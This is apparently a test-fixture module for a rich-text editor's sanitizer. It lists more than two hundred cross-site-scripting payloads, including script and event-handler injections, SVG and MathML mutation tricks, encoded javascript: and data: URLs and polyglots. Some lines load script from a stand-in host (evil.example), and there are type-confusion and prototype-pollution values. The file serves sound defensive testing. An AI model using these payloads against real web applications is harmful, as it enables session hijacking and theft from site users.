/**
 * Script-injection payloads for the editor's fields. Each one, if it ever ran, sets window.__pwned or opens a
 * dialog; the test checks neither happens.
 */
export const MARKUP_PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1">',
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=window.__pwned=1>",
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '<body onload=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '${window.__pwned=1}',
  "<style>@import 'javascript:window.__pwned=1'</style>",
  '<input autofocus onfocus=window.__pwned=1>',
  '<video><source onerror="window.__pwned=1">',
  '<object data="javascript:window.__pwned=1">',
  '<embed src="javascript:window.__pwned=1">',
  '<form action="javascript:window.__pwned=1"><button>x</button></form>',
  '<marquee onstart=window.__pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<!--<img src="--><img src=x onerror=window.__pwned=1//">',
  '<x contenteditable onblur=window.__pwned=1>lose focus</x>',
  '<div style="background:url(javascript:window.__pwned=1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<base href="javascript:window.__pwned=1//">',
];

/** Addresses a link, image or video must never hold. */
export const URL_PAYLOADS = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  ' javascript:window.__pwned=1',
  'java\tscript:window.__pwned=1',
  'java\nscript:window.__pwned=1',
  'java\u200bscript:window.__pwned=1',
  '&#106;avascript:window.__pwned=1',
  'javascript&colon;window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload="window.__pwned=1">',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x.js',
  '\\\\evil.example\\x',
  '/relative/path',
  'https://user:pass@evil.example/',
  'http:\\\\evil.example',
  'blob:https://evil.example/1234',
  'about:blank',
  '"><script>window.__pwned=1</script>',
];

/** Video links that are not the video host's, or carry more than a video: refused as a video. */
export const VIDEO_ONLY_PAYLOADS = [
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ&x=<script>',
  'https://evil.example/watch?v=dQw4w9WgXcQ',
  'https://www.youtube.com/watch?v=dQw4w9WgX"><script>',
  'https://www.youtube.com.evil.example/watch?v=dQw4w9WgXcQ',
  'https://www.youtube.com/embed/dQw4w9WgXcQ/../../x',
];

/**
 * Web addresses with markup in them: valid URLs, so they may be stored, but they must stay inert in an attribute
 * (the editor sets attributes through the DOM, never by writing HTML).
 */
export const QUOTED_URLS = [
  "https://example.com/\"onerror='window.__pwned=1'",
  'https://example.com/"><script>window.__pwned=1</script>',
  "https://example.com/x' onload='window.__pwned=1",
];

/** More markup: tags and attributes a sanitizer or a template may miss, SVG and MathML, mutation XSS, polyglots. */
export const MORE_MARKUP_PAYLOADS = [
  '<ScRiPt>window.__pwned=1</sCrIpT>',
  '<script src=data:,window.__pwned=1></script>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
  '</textarea><script>window.__pwned=1</script>',
  '</title><script>window.__pwned=1</script>',
  '</style><script>window.__pwned=1</script>',
  '</script><script>window.__pwned=1</script>',
  '<<script>window.__pwned=1//<</script>',
  '<script/x>window.__pwned=1</script>',
  '<script ~~~>window.__pwned=1</script ~~~>',
  '<script>window.__pwned=1<!--</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>window.__pwned=1</script>',
  "<script>document.write('<img src=x onerror=window.__pwned=1>')</script>",
  '<script>eval(String.fromCharCode(119,105,110,100,111,119,46,95,95,112,119,110,101,100,61,49))</script>',
  '<scr\u0000ipt>window.__pwned=1</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=prompt(1)>',
  '<img src=x onerror=confirm(1)>',
  '<img/src/onerror=window.__pwned=1>',
  '<img src="x" onerror="&#119;indow.__pwned=1">',
  "<img src=x onerror=window['__pw'+'ned']=1>",
  "<img src=x:x onerror=eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))>",
  '<img src=1 href=1 onerror="javascript:window.__pwned=1">',
  '<img srcset=",,,,,x" onerror=window.__pwned=1>',
  '<img src=`x` onerror=window.__pwned=1>',
  String.raw`<img src=x onerror=\u0061lert(1)>`,
  "<img src=x onerror=setTimeout('window.__pwned=1')>",
  "<img src=x onerror=Function('window.__pwned=1')()>",
  "<img src=x onerror=top['al'+'ert'](1)>",
  "<img src=x onerror=import('data:text/javascript,window.__pwned=1')>",
  '<img src=x on\u200berror=window.__pwned=1>',
  '<img src=x onerror=window.__pwned=1//',
  '<img """><script>window.__pwned=1</script>">',
  '<IMG SRC=javascript:window.__pwned=1>',
  '<IMG SRC="jav&#x0A;ascript:window.__pwned=1">',
  '<IMG DYNSRC="javascript:window.__pwned=1">',
  '<IMG LOWSRC="javascript:window.__pwned=1">',
  '<image src=x onerror=window.__pwned=1>',
  '<img src="data:image/svg+xml,<svg onload=\'parent.__pwned=1\'/>">',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg onload=window.__pwned=1//',
  '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<svg><set onbegin=window.__pwned=1 attributename=x to=1>',
  '<svg><animatetransform onbegin=window.__pwned=1>',
  '<svg><discard onbegin=window.__pwned=1>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text x=20 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:window.__pwned=1 /><text x=20 y=20>x</text></a>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.__pwned=1'/></svg>#x\"/></svg>",
  '<svg><foreignObject><img src=x onerror=window.__pwned=1></foreignObject></svg>',
  '<svg><style><img src=x onerror=window.__pwned=1></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<svg><script href=data:,window.__pwned=1 />',
  '<svg><script xlink:href=data:,window.__pwned=1></script>',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=window.__pwned=1>"></svg>',
  '<svg><title><![CDATA[</title><script>window.__pwned=1</script>]]></title></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">x</maction></math>',
  '<math href="javascript:window.__pwned=1">x</math>',
  '<math><mi xlink:href="data:x,<script>window.__pwned=1</script>">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.__pwned=1></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">',
  '<template><script>window.__pwned=1</script></template>',
  '<template><img src=x onerror=window.__pwned=1></template>',
  '<select><template><img src=x onerror=window.__pwned=1></template></select>',
  '<noembed><img title="</noembed><img src=x onerror=window.__pwned=1>">',
  '<noframes><img title="</noframes><img src=x onerror=window.__pwned=1>">',
  '<xmp><img title="</xmp><img src=x onerror=window.__pwned=1>">',
  '<textarea><img title="</textarea><img src=x onerror=window.__pwned=1>">',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;">',
  '<iframe onload=window.__pwned=1>',
  '<frameset onload=window.__pwned=1>',
  '<portal src="javascript:window.__pwned=1">',
  '<audio src=x onerror=window.__pwned=1>',
  '<video src=x onerror=window.__pwned=1>',
  '<video poster=javascript:window.__pwned=1>',
  '<input type=image src=x onerror=window.__pwned=1>',
  '<input onfocus=window.__pwned=1 autofocus>',
  '<input value="x" onblur=window.__pwned=1 autofocus>',
  '<select autofocus onfocus=window.__pwned=1>',
  '<textarea autofocus onfocus=window.__pwned=1>',
  '<keygen autofocus onfocus=window.__pwned=1>',
  '<isindex type=image src=1 onerror=window.__pwned=1>',
  '<button onclick=window.__pwned=1>click me</button>',
  '<a onmouseover=window.__pwned=1>hover</a>',
  '<a id=x tabindex=1 onfocus=window.__pwned=1></a>',
  '<a href="#" onclick="window.__pwned=1;return false">x</a>',
  '<A HREF="http://example.com/" ONCLICK="window.__pwned=1">x</A>',
  '<div onpointerenter=window.__pwned=1 style="position:fixed;inset:0">',
  '<x onclick=window.__pwned=1 style=display:block;position:fixed;inset:0>',
  '<div draggable=true ondragstart=window.__pwned=1>drag</div>',
  '<body onpageshow=window.__pwned=1>',
  '<body onhashchange=window.__pwned=1><a href=#x>x</a>',
  '<body onscroll=window.__pwned=1><br><br><br><br><input autofocus>',
  '<marquee loop=1 width=0 onfinish=window.__pwned=1>x</marquee>',
  '<details ontoggle=alert(1) open>',
  '<dialog open onclose=window.__pwned=1><form method=dialog><button autofocus>x</button></form></dialog>',
  '<style onload=window.__pwned=1></style>',
  '<div style="width:expression(window.__pwned=1)">',
  '<style>*{background:url("javascript:window.__pwned=1")}</style>',
  '<STYLE>li {list-style-image: url("javascript:window.__pwned=1");}</STYLE><UL><LI>x</UL>',
  '<DIV STYLE="background-image: url(&#1;javascript:window.__pwned=1)">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<link rel=stylesheet href="javascript:window.__pwned=1">',
  '<link rel=import href="data:text/html,<script>parent.__pwned=1</script>">',
  '<object data="data:text/html,<script>parent.__pwned=1</script>">',
  '<object type=text/x-scriptlet data=javascript:window.__pwned=1>',
  '<object><param name=src value=javascript:window.__pwned=1></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J3BhcmVudC5fX3B3bmVkPTEnLz4=">',
  '<TABLE BACKGROUND="javascript:window.__pwned=1">',
  '<table><td background="javascript:window.__pwned=1">',
  '<bgsound src="javascript:window.__pwned=1">',
  '<LAYER SRC="javascript:window.__pwned=1"></LAYER>',
  '<BR SIZE="&{window.__pwned=1}">',
  '<base target="<img src=x onerror=window.__pwned=1>">',
  '<a href="jav&#x09;ascript:window.__pwned=1">tab</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:window.__pwned=1">hex</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:window.__pwned=1">dec</a>',
  '<a href=" &#14; javascript:window.__pwned=1">ctl</a>',
  '<a href="javascript&#58;window.__pwned=1">colon</a>',
  '<a href="javascript:%77indow.__pwned=1">pct</a>',
  '<a href="javascript://%0Awindow.__pwned=1">nl</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">b64</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<form><button formaction=javascript:window.__pwned=1>x</button></form>',
  '<form id=f></form><button form=f formaction=javascript:window.__pwned=1>x</button>',
  '<input type=submit formaction=javascript:window.__pwned=1 value=x>',
  '<div id="x"></div><script>x.innerHTML=\'<img src=x onerror=window.__pwned=1>\'</script>',
  "'-window.__pwned=1-'",
  '";window.__pwned=1;//',
  "'};window.__pwned=1;//",
  '"\'><svg/onload=window.__pwned=1>',
  '"onmouseover="window.__pwned=1',
  "' autofocus onfocus='window.__pwned=1",
  '" autofocus onfocus="window.__pwned=1',
  "{{$on.constructor('window.__pwned=1')()}}",
  '<div ng-app ng-csp><div ng-click=$event.view.__pwned=1>x</div></div>',
  '<div v-html="\'<img src=x onerror=window.__pwned=1>\'"></div>',
  '<div data-bind="html: \'<img src=x onerror=window.__pwned=1>\'"></div>',
  '#{window.__pwned=1}',
  '<%= window.__pwned=1 %>',
  "[[constructor.constructor('window.__pwned=1')()]]",
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.__pwned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=1//>\\x3e',
  '[click](javascript:window.__pwned=1)',
  '![x](javascript:window.__pwned=1)',
  '[x](data:text/html,<script>window.__pwned=1</script>)',
  '![x](x "onerror=window.__pwned=1")',
  '<https://example.com/"onmouseover="window.__pwned=1>',
  '[x]: javascript:window.__pwned=1',
  '%3Cscript%3Ewindow.__pwned=1%3C/script%3E',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  String.raw`\u003cscript\u003ewindow.__pwned=1\u003c/script\u003e`,
  '\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e',
  '+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-',
  '${window.__pwned=1}@x',
  '{window.__pwned=1}',
  "'onerror='window.__pwned=1'",
];

/** More addresses a link or an image must never hold: schemes, encodings, whitespace and control tricks. */
export const MORE_URL_PAYLOADS = [
  'JAVASCRIPT:window.__pwned=1',
  'javascript:alert(1)',
  'javascript://example.com/%0Awindow.__pwned=1',
  'javascript:/*https://example.com*/window.__pwned=1',
  '\u0001javascript:window.__pwned=1',
  '\u00a0javascript:window.__pwned=1',
  'javascript\t:window.__pwned=1',
  'jav&#x09;ascript:window.__pwned=1',
  '&#x6A;avascript:window.__pwned=1',
  '%6Aavascript:window.__pwned=1',
  'javascript%3Awindow.__pwned=1',
  'data:text/html;charset=utf-8,<script>window.__pwned=1</script>',
  'DATA:text/html,<script>window.__pwned=1</script>',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>window.__pwned=1</script></html>',
  'data:,window.__pwned=1',
  'data:text/javascript,window.__pwned=1',
  'VBScript:msgbox(1)',
  'vbscript&colon;msgbox(1)',
  'livescript:window.__pwned=1',
  'mocha:window.__pwned=1',
  'feed:javascript:window.__pwned=1',
  'view-source:javascript:window.__pwned=1',
  'jar:https://evil.example/x.jar!/',
  'filesystem:https://evil.example/temporary/x',
  'ftp://evil.example/x',
  'ws://evil.example/',
  'intent://evil.example#Intent;scheme=javascript;end',
  'https:evil.example',
  '/\\evil.example',
  '///evil.example',
  'https://evil.example\u2028/',
  'https://evil.example@example.com/',
  'https://example.com/\u202e/moc.live',
];

/** Web addresses with markup or script in their path, query or fragment: valid, so stored, and inert when shown. */
export const MORE_QUOTED_URLS = [
  'https://example.com/?q=<script>window.__pwned=1</script>',
  'https://example.com/#<img src=x onerror=window.__pwned=1>',
  'https://example.com/"onmouseover="window.__pwned=1',
  "https://example.com/'-window.__pwned=1-'",
  'https://example.com/javascript:window.__pwned=1',
  'https://example.com/?u=javascript:window.__pwned=1',
  'https://example.com/`onerror=window.__pwned=1`',
  'https://example.com/</a><script>window.__pwned=1</script>',
];

/**
 * Attribute type confusion: values of another JSON type where a field expects a string. Every field refuses each
 * of them (null is left out: an optional field reads it as empty).
 */
export const CONFUSED_VALUES: Array<[string, unknown]> = [
  ['a number', 1],
  ['zero', 0],
  ['a negative number', -1],
  ['a huge number', 1e308],
  ['true', true],
  ['false', false],
  ['an empty list', []],
  ['a list of a payload', ['<script>window.__pwned=1</script>']],
  ['a nested list', [['javascript:window.__pwned=1']]],
  ['an empty object', {}],
  ['an object with toString', { toString: 'javascript:window.__pwned=1' }],
  ['an object with __html', { __html: '<img src=x onerror=window.__pwned=1>' }],
  ['an operator object', { $gt: '' }],
  ['a __proto__ object', JSON.parse('{"__proto__":{"isAdmin":true}}') as unknown],
];

/** Every string payload once: markup, unsafe and quoted addresses, video links (at least 200). */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...MARKUP_PAYLOADS,
    ...MORE_MARKUP_PAYLOADS,
    ...URL_PAYLOADS,
    ...MORE_URL_PAYLOADS,
    ...VIDEO_ONLY_PAYLOADS,
    ...QUOTED_URLS,
    ...MORE_QUOTED_URLS,
  ]),
];

/** Addresses only: what a link or image field is tried with. */
export const ADDRESS_PAYLOADS: readonly string[] = [
  ...new Set([...URL_PAYLOADS, ...MORE_URL_PAYLOADS, ...QUOTED_URLS, ...MORE_QUOTED_URLS]),
];

// eslint-disable-next-line no-control-regex -- the control characters a single line or a text refuses
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;
/** True for a payload holding a control character other than tab and line breaks (text fields refuse those). */
export const hasControl = (payload: string) => CONTROL.test(payload);
// eslint-disable-next-line no-control-regex -- every control character, tab and line breaks included
const ANY_CONTROL = /[\u0000-\u001f\u007f]/;
/** True for a payload holding any control character (a single-line field or a document's text refuses it). */
export const hasAnyControl = (payload: string) => ANY_CONTROL.test(payload);

type Node = Record<string, unknown>;
const paragraph = (content: Node[]): Node => ({ type: 'paragraph', content });
const doc = (...content: Node[]): Node => ({ type: 'doc', content });

export const linkDoc = (href: unknown) =>
  doc(paragraph([{ type: 'text', text: 'a link', marks: [{ type: 'link', attrs: { href } }] }]));
export const imageDoc = (src: unknown) => doc({ type: 'image', attrs: { src } });
export const videoDoc = (src: unknown) => doc({ type: 'youtube', attrs: { src } });

/** Every payload (by default the markup ones) as text: in paragraphs, a heading, a code block and a link's text. */
export const textDoc = (payloads: readonly string[] = MARKUP_PAYLOADS) =>
  doc(
    ...payloads.map((payload) => paragraph([{ type: 'text', text: payload }])),
    { type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: payloads[0] }] },
    {
      type: 'codeBlock',
      attrs: { language: 'xml' },
      content: [{ type: 'text', text: payloads.join('\n') }],
    },
    paragraph([
      {
        type: 'text',
        text: payloads[1]!,
        marks: [{ type: 'link', attrs: { href: 'https://example.com/' } }],
      },
    ]),
  );

/** Attribute type confusion and unknown types or attributes: the document is refused whole. */
export const CONFUSED_DOCS: Array<[string, Node]> = [
  ['link href as a list', linkDoc(['javascript:window.__pwned=1'])],
  ['link href as an object', linkDoc({ toString: 'javascript:window.__pwned=1' })],
  ['image src as a list', imageDoc(['https://example.com/a.png', 'javascript:window.__pwned=1'])],
  ['image src as an object', imageDoc({ src: 'javascript:window.__pwned=1' })],
  ['video src as a list', videoDoc(['https://youtu.be/dQw4w9WgXcQ'])],
  [
    'heading level as text',
    doc({ type: 'heading', attrs: { level: '1' }, content: [{ type: 'text', text: 'x' }] }),
  ],
  ['code language as a list', doc({ type: 'codeBlock', attrs: { language: ['typescript'] } })],
  [
    'task checked as text',
    doc({
      type: 'taskList',
      content: [
        { type: 'taskItem', attrs: { checked: 'true' }, content: [paragraph([{ type: 'text', text: 'x' }])] },
      ],
    }),
  ],
  [
    'link target as a list',
    doc(
      paragraph([
        {
          type: 'text',
          text: 'x',
          marks: [{ type: 'link', attrs: { href: 'https://example.com/', target: ['_blank'] } }],
        },
      ]),
    ),
  ],
  ['an onclick attribute', doc({ type: 'paragraph', attrs: { onclick: 'window.__pwned=1' } })],
  ['a script node', doc({ type: 'script', content: [{ type: 'text', text: 'window.__pwned=1' }] })],
  ['an iframe node', doc({ type: 'iframe', attrs: { src: 'javascript:window.__pwned=1' } })],
  ['a script mark', doc(paragraph([{ type: 'text', text: 'x', marks: [{ type: 'script' }] }]))],
  ['an html field', { ...doc(), html: '<script>window.__pwned=1</script>' }],
  ['text as a list', doc(paragraph([{ type: 'text', text: ['<script>window.__pwned=1</script>'] }]))],
];
